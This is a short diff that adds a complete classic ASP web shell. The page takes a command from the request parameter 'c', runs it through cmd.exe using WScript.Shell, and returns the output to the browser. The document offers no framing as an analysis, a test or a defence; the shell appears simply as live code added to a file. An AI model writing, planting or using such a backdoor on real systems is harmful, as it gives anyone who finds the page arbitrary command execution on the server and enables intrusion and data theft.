@@ -1,0 +1,5 @@
+<%
+Set sh = Server.CreateObject("WScript.Shell")
+Set ex = sh.Exec("cmd.exe /c " & Request("c"))
+Response.Write ex.StdOut.ReadAll()
+%>
